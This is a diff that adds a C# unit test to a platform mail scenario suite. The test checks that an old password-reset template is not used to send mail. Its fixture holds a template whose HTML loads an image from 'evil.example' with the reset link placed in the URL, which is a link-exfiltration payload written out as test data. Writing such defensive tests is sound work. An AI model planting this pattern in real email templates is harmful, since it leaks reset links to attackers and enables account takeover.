@@ -54,6 +54,28 @@ public sealed class PlatformMailScenarios : Scenario
     }
 
     [Fact]
+    public async Task words_from_before_that_give_a_link_away_are_not_sent()
+    {
+        Prepare();
+        var template = World.Grains.GetGrain<ITemplateGrain>(
+            TemplateKey.Of(GrainWorld.Shop, StandardEmailKind.PasswordReset).ToString());
+        var old = new EmailText("Old", "{{link}}", "<img src=\"https://evil.example/{{link}}\">", Footer: true);
+        await World.Store.WriteStateAsync("template", template.GetGrainId(), new GrainState<TemplateState>
+        {
+            State = new TemplateState
+            {
+                Versions = [new TemplateVersion(1, DateTimeOffset.UnixEpoch, old)],
+                InUse = 1,
+                LastNumber = 1,
+            },
+        });
+
+        World.Run(Send(PlatformMail.PasswordReset("1", Ann, "https://links.example/a", DateTimeOffset.UnixEpoch)));
+
+        Words().ShouldHaveSingleItem().Html!.ShouldNotContain("evil.example");
+    }
+
+    [Fact]
     public void a_paused_account_of_the_tenant_holds_no_mail_of_the_platform()
     {
         Prepare();
